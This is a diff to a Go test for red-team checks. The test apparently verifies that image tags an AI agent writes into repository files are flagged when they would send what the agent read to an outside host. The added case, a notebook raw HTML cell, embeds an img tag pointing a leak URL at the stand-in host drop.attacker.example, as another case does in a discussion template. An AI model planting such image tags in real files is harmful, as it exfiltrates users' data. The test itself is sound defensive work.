@@ -81,6 +81,7 @@ func TestRedTeamImagesCarryWhatTheAgentRead(t *testing.T) {
 		{"a discussion form's Markdown", contained, nil, map[string]string{".github/DISCUSSION_TEMPLATE/ideas.yaml": "body:\n  - type: textarea\n    attributes:\n      label: Idea\n      description: \"<img src='" + leak + "'>\"\n"},
 			".github/DISCUSSION_TEMPLATE/ideas.yaml (an image from drop.attacker.example)"},
 		{"a form's links are not fetched", contained, nil, map[string]string{".github/ISSUE_TEMPLATE/config.yml": "contact_links:\n  - name: Docs\n    url: https://docs.example/help\n    about: Read https://docs.example first\n"}, ""},
+		{"a notebook's raw HTML cell", contained, nil, map[string]string{"raw.ipynb": `{"cells": [{"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": ["    <img src=\"` + leak + `\">"]}], "nbformat": 4}`}, "raw.ipynb (an image from drop.attacker.example)"},
 		{"an allowed host", contained, nil, map[string]string{"README.md": "![ci](https://img.shields.io/badge/x-y-green)\n"}, ""},
 		{"GitHub's own", contained, nil, map[string]string{"README.md": "![a](https://github.com/o/r/actions/workflows/ci.yml/badge.svg) ![b](https://raw.githubusercontent.com/o/r/main/a.png)\n"}, ""},
 		{"an image the file had already", contained, map[string]string{"README.md": "![logo](https://cdn.example/logo.png)\n"},
